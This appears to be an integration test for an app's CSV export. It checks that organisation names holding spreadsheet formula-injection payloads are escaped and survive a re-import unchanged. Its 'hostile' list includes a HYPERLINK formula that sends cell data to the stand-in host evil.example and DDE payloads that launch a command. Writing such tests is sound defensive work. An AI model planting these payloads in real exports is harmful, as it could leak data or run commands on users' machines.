import { expect, it } from 'vitest'
import { Agent, bearer, describeIntegration, seedPartnership, system } from './helpers/app.ts'
import { CsvParser } from '../src/workbook/csv.ts'
import { multipart } from './helpers/workbook.ts'

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click for more")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-2.5',
  '\tTabbed',
  '\rReturned',
]

describeIntegration('CSV exports and formula injection', (t) => {
  it('neutralises cells that would run as formulas in every CSV export, and reads the export back unchanged', async () => {
    const { app, services } = t()
    const { slug, partnership, users } = await seedPartnership(services, ['admin'])
    for (const name of hostile)
      await services.organisations.create(system, partnership.id, {
        name,
        type: 'other',
        dutyToCooperate: false,
      })

    const res = await app.inject({
      method: 'GET',
      url: `/api/v1/partnerships/${slug}/exports/Organisations?format=csv`,
      headers: bearer(users.admin!.token),
    })
    expect(res.statusCode).toBe(200)
    const text = res.body
    const parser = new CsvParser()
    const names = [...parser.push(text), ...parser.end()].slice(1).map((r) => r[0])
    expect(names.sort()).toEqual(
      [
        `'=HYPERLINK("http://evil.example/?"&A1,"Click for more")`,
        "'+cmd|' /C calc'!A0",
        `'@SUM(1+1)*cmd|" /C calc"!A0`,
        '-2.5',
        "'\tTabbed",
        "'\rReturned",
      ].sort(),
    )

    // The page download is the same file; imported again it changes nothing.
    const agent = new Agent(app)
    await agent.signIn(users.admin!.email, users.admin!.password)
    const page = await agent.get(`/p/${slug}/workbook/exports/Organisations?format=csv`)
    expect(page.body).toBe(text)
    const form = multipart('Organisations.csv', text)
    const again = await app.inject({
      method: 'POST',
      url: `/api/v1/partnerships/${slug}/imports`,
      headers: { ...bearer(users.admin!.token), ...form.headers },
      payload: form.payload,
    })
    expect(again.statusCode).toBe(200)
    const counts = again.json<{ data: { sheets: Record<string, Record<string, number>> } }>().data.sheets
    // The names with a leading tab or return are trimmed by the import (as any imported cell).
    expect(counts.Organisations).toMatchObject({ created: 2, updated: 0, unchanged: 4 })
  })
})
